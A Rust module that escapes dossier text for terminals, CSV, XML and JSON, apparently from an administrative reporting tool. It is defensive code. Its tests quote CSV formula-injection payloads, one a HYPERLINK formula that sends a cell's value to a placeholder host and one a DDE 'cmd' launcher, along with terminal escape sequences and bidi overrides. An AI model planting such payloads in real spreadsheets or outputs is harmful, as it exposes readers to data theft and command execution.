//! Outputs that carry no injection. Everything quoted from a dossier (unit and criteria names,
//! values, notes, file names) was typed by whoever can write to a shared folder, so before
//! it reaches a reader it passes through one function here, chosen by where it goes: a
//! terminal (`for_terminal`; `one_line` for a diagnostic, where a newline could fake an output
//! line), a spreadsheet (`csv_cell`: OWASP's leading apostrophe on formula cells), an XML
//! parser (`xml_text`: the characters XML 1.0 forbids become spaces), or a JSON reader
//! (`json_pretty`: what serde_json already escapes, plus the controls a terminal obeys).
//! The rules are written down in `docs/reliability.md`, "Outputs that carry no injection".

use serde::Serialize;
use serde_json::ser::{Formatter, PrettyFormatter};
use std::borrow::Cow;
use std::io;

/// A character a terminal may obey instead of showing: C0 controls but newline and tab, DEL,
/// C1 controls, and the bidirectional overrides and isolates that reorder what is shown.
pub fn is_terminal_control(c: char) -> bool {
    (c < ' ' && c != '\n' && c != '\t')
        || ('\u{7f}'..='\u{9f}').contains(&c)
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// Text for a terminal: every [`is_terminal_control`] character written as Rust writes it
/// (`\u{1b}`, `\r`, `\0`); newlines and tabs are kept, so tables keep their layout.
pub fn for_terminal(s: &str) -> Cow<'_, str> {
    escape_where(s, is_terminal_control)
}

/// Text for one line of a diagnostic: as [`for_terminal`], and a newline is written `\n`,
/// so a value quoted in a message cannot start what looks like another message.
pub fn one_line(s: &str) -> Cow<'_, str> {
    escape_where(s, |c| c == '\n' || is_terminal_control(c))
}

fn escape_where(s: &str, escape: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(&escape) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if escape(c) {
            out.extend(c.escape_debug());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A cell for a CSV output. A cell a spreadsheet would run as a formula (beginning with `=`,
/// `+`, `-`, `@`, a tab or a carriage return) gets a leading apostrophe, as OWASP
/// recommends, unless it is a plain number such as `-0.25`, `+5` or `-12,5%`; control
/// characters are escaped as for a terminal, since a CSV may be printed to one.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    let formula = matches!(s.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'))
        && !is_plain_number(s);
    match (formula, for_terminal(s)) {
        (true, shown) => Cow::Owned(format!("'{shown}")),
        (false, shown) => shown,
    }
}

/// A sign, digits with at most one decimal point or comma, and an optional `%`.
fn is_plain_number(s: &str) -> bool {
    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
    let s = s.strip_suffix('%').unwrap_or(s);
    let mut parts = s.splitn(2, ['.', ',']);
    let whole = parts.next().unwrap_or("");
    let fraction = parts.next();
    let digits = |p: &str| p.bytes().all(|b| b.is_ascii_digit());
    match fraction {
        None => !whole.is_empty() && digits(whole),
        Some(f) => !(whole.is_empty() && f.is_empty()) && digits(whole) && digits(f),
    }
}

/// The bidirectional embeddings, overrides and isolates (U+202A–U+202E, U+2066–U+2069): an
/// override typed into a cell and never closed shows every figure after it reversed.
pub fn is_bidi_control(c: char) -> bool {
    ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// Text for a document a person reads (the HTML pages and report; the workbooks, through
/// [`for_reader_bytes`]): the bidirectional controls are removed, so text from the data
/// cannot reorder what is shown after it. Nothing else changes.
pub fn for_reader(s: &str) -> Cow<'_, str> {
    if !s.chars().any(is_bidi_control) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(s.chars().filter(|c| !is_bidi_control(*c)).collect())
}

/// [`for_reader`] over UTF-8 bytes (the XML parts of a workbook), byte for byte otherwise:
/// in UTF-8 the three bytes of a bidirectional control never occur inside another character.
pub fn for_reader_bytes(b: &[u8]) -> Cow<'_, [u8]> {
    let is_control = |w: &[u8]| {
        w[0] == 0xe2
            && ((w[1] == 0x80 && (0xaa..=0xae).contains(&w[2]))
                || (w[1] == 0x81 && (0xa6..=0xa9).contains(&w[2])))
    };
    if !b.windows(3).any(is_control) {
        return Cow::Borrowed(b);
    }
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if i + 3 <= b.len() && is_control(&b[i..i + 3]) {
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    Cow::Owned(out)
}

/// Text for an XML document (the SVG charts and the PNGs drawn from them, the Word
/// documents' runs): each character XML 1.0 does not allow (C0 controls but tab, newline
/// and carriage return; U+FFFE and U+FFFF) becomes a space, so a line break typed with
/// Shift+Enter in Word still separates two words; the bidirectional controls are removed,
/// as for [`for_reader`]. Markup characters (`<`, `&`) are not touched here: plotters and
/// docx-rs escape them.
pub fn xml_text(s: &str) -> Cow<'_, str> {
    let forbidden = |c: char| {
        (c < ' ' && !matches!(c, '\t' | '\n' | '\r')) || matches!(c, '\u{fffe}' | '\u{ffff}')
    };
    if !s.chars().any(|c| forbidden(c) || is_bidi_control(c)) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.chars()
            .filter(|c| !is_bidi_control(*c))
            .map(|c| if forbidden(c) { ' ' } else { c })
            .collect(),
    )
}

/// Pretty JSON in which no string carries a character a terminal obeys: serde_json writes C0
/// controls as `\u001b`; DEL, C1 controls and bidirectional overrides are written `\u202e`
/// here too. The value a JSON reader gets back is unchanged.
pub fn json_pretty<T: Serialize + ?Sized>(value: &T) -> String {
    let mut out = Vec::new();
    let mut ser =
        serde_json::Serializer::with_formatter(&mut out, Escaping(PrettyFormatter::new()));
    if value.serialize(&mut ser).is_err() {
        return String::new();
    }
    String::from_utf8(out).unwrap_or_default()
}

struct Escaping<'a>(PrettyFormatter<'a>);

impl Formatter for Escaping<'_> {
    fn write_string_fragment<W: ?Sized + io::Write>(
        &mut self,
        w: &mut W,
        fragment: &str,
    ) -> io::Result<()> {
        let mut start = 0;
        for (at, c) in fragment.char_indices() {
            if is_terminal_control(c) {
                w.write_all(&fragment.as_bytes()[start..at])?;
                write!(w, "\\u{:04x}", c as u32)?;
                start = at + c.len_utf8();
            }
        }
        w.write_all(&fragment.as_bytes()[start..])
    }

    fn begin_array<W: ?Sized + io::Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.begin_array(w)
    }
    fn end_array<W: ?Sized + io::Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.end_array(w)
    }
    fn begin_array_value<W: ?Sized + io::Write>(
        &mut self,
        w: &mut W,
        first: bool,
    ) -> io::Result<()> {
        self.0.begin_array_value(w, first)
    }
    fn end_array_value<W: ?Sized + io::Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.end_array_value(w)
    }
    fn begin_object<W: ?Sized + io::Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.begin_object(w)
    }
    fn end_object<W: ?Sized + io::Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.end_object(w)
    }
    fn begin_object_key<W: ?Sized + io::Write>(
        &mut self,
        w: &mut W,
        first: bool,
    ) -> io::Result<()> {
        self.0.begin_object_key(w, first)
    }
    fn begin_object_value<W: ?Sized + io::Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.begin_object_value(w)
    }
    fn end_object_value<W: ?Sized + io::Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.end_object_value(w)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_terminal_sees_escape_sequences_spelled_out_and_keeps_newlines_and_tabs() {
        assert_eq!(
            for_terminal("a\u{1b}[2J\u{1b}]0;title\u{7}\tb\nc\r\0"),
            "a\\u{1b}[2J\\u{1b}]0;title\\u{7}\tb\nc\\r\\0"
        );
    }

    #[test]
    fn del_c1_controls_and_bidi_overrides_are_escaped_for_a_terminal() {
        assert_eq!(
            for_terminal("\u{7f}\u{80}\u{9b}\u{9f}\u{a0}\u{202a}\u{202e}\u{2066}\u{2069}\u{200e}"),
            "\\u{7f}\\u{80}\\u{9b}\\u{9f}\u{a0}\\u{202a}\\u{202e}\\u{2066}\\u{2069}\u{200e}"
        );
    }

    #[test]
    fn vietnamese_text_and_backslashes_reach_a_terminal_unchanged_and_unallocated() {
        let s = "Kế hoạch CCHC, C:\\hồ sơ\\2026";
        assert!(matches!(for_terminal(s), Cow::Borrowed(t) if t == s));
    }

    #[test]
    fn a_diagnostic_line_shows_a_newline_as_backslash_n() {
        assert_eq!(
            one_line("x\nscores.csv:1: ok\t\u{1b}"),
            "x\\nscores.csv:1: ok\t\\u{1b}"
        );
    }

    #[test]
    fn formula_cells_get_a_leading_apostrophe() {
        for (cell, shown) in [
            (
                "=HYPERLINK(\"http://x\"&A1,\"x\")",
                "'=HYPERLINK(\"http://x\"&A1,\"x\")",
            ),
            ("@SUM(1+1)*cmd|'/C calc'!A0", "'@SUM(1+1)*cmd|'/C calc'!A0"),
            ("+1+cmd", "'+1+cmd"),
            ("-2+3", "'-2+3"),
            ("-", "'-"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\\r=1"),
            ("+.", "'+."),
        ] {
            assert_eq!(csv_cell(cell), shown, "{cell:?}");
        }
    }

    #[test]
    fn plain_numbers_and_ordinary_text_stay_as_they_are_in_csv() {
        for cell in [
            "-0.25", "+5", "-12,5%", "-.5", "0.25", "1.1.2", "Có", "a=b", "", "19/20",
        ] {
            assert_eq!(csv_cell(cell), cell);
        }
    }

    #[test]
    fn a_csv_cell_escapes_control_characters_but_keeps_line_breaks() {
        assert_eq!(csv_cell("ghi\u{1b}[2J\nchú"), "ghi\\u{1b}[2J\nchú");
        assert_eq!(csv_cell("=\u{1b}"), "'=\\u{1b}");
    }

    #[test]
    fn characters_xml_forbids_become_spaces_and_the_rest_is_kept() {
        assert_eq!(
            xml_text("Kế hoạch\u{b}CCHC\u{1b}[2J\u{0}\u{fffe}\u{ffff}\t\n\r<&\u{7f}\u{85}"),
            "Kế hoạch CCHC [2J   \t\n\r<&\u{7f}\u{85}"
        );
    }

    #[test]
    fn bidirectional_controls_are_removed_for_a_reader_and_in_xml() {
        let typed = "VB\u{202e}01 \u{2066}Quyết định\u{2069} 88,99\u{202a}\u{202c}";
        assert_eq!(for_reader(typed), "VB01 Quyết định 88,99");
        assert_eq!(xml_text(typed), "VB01 Quyết định 88,99");
        assert_eq!(
            &*for_reader_bytes(typed.as_bytes()),
            "VB01 Quyết định 88,99".as_bytes()
        );
        // The marks that only hint a direction (LRM, RLM) are not controls that override.
        let marks = "a\u{200e}b\u{200f}c\u{2065}d\u{202f}e";
        assert!(matches!(for_reader(marks), Cow::Borrowed(_)));
        assert!(matches!(
            for_reader_bytes(marks.as_bytes()),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn json_strings_escape_terminal_controls_and_read_back_the_same() {
        let value = serde_json::json!({ "tên\u{202e}": "a\u{1b}b\u{7f}c\u{9b}d\u{2066}e\nf" });
        let text = json_pretty(&value);
        assert_eq!(
            text,
            "{\n  \"tên\\u202e\": \"a\\u001bb\\u007fc\\u009bd\\u2066e\\nf\"\n}"
        );
        let back: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(back, value);
    }
}
